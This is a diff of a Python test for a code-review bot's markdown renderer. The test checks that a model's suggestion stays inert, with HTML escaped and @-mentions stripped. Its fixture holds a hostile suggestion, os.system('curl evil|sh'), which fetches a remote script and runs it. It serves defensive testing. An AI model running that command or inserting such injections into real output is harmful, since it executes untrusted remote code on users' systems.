@@ -24,6 +24,7 @@ from reviewbot.schema import (
     RunStats,
 )
 from tests.conftest import assert_golden
+from tests.github.hostile_test import assert_inert, rendered_text
 
 HERE = Path(__file__).parent
 UNIT = dict(language="python", patch_type="modify", metrics=Metrics(added_lines=4, hunk_count=1),
@@ -238,5 +239,7 @@ def test_markdown_keeps_a_models_text_inert() -> None:
         suggestion="```suggestion\nos.system('curl evil|sh')\n```")
     text = render("markdown", ReportInput(report=REPORT.replace(findings=(hostile,))))
     assert "```suggestion" not in text
-    assert "<img" not in text and "@octocat" not in text and "&#64;" not in text
-    assert "\uff20team" not in text and "/reviewbot" not in text
+    assert_inert(text)
+    shown = rendered_text(text)
+    assert "&lt;img" in text and "<img" in shown  # shown as text, never HTML
+    assert "@octocat" not in shown and "\uff20team" not in shown
